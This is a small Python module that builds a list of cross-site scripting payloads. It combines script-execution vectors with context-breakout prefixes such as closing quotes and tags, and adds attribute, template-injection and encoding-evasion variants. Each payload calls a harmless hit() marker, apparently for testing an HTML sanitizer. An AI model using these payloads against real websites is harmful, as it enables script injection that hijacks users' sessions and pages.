"""What somebody writes who wants a page to run their script: each way to run one, behind each way out of its place."""

from __future__ import annotations

RUNS = (
    "<script>hit()</script>",
    "<img src=/x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<math><mtext><style><img src=/x onerror=hit()></style></mtext></math>",
    "<a href=javascript:hit()>look</a>",
)
WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</bdi></p>",
    "]]>",
    "{{ '",
)
OTHERS = (
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    "javascript:hit()",
    "{{ hit() }}",
    "{% raw %}<script>hit()</script>",
    "%(number)s<script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
)

PAYLOADS = (*(out + run for run in RUNS for out in WAYS_OUT), *OTHERS)
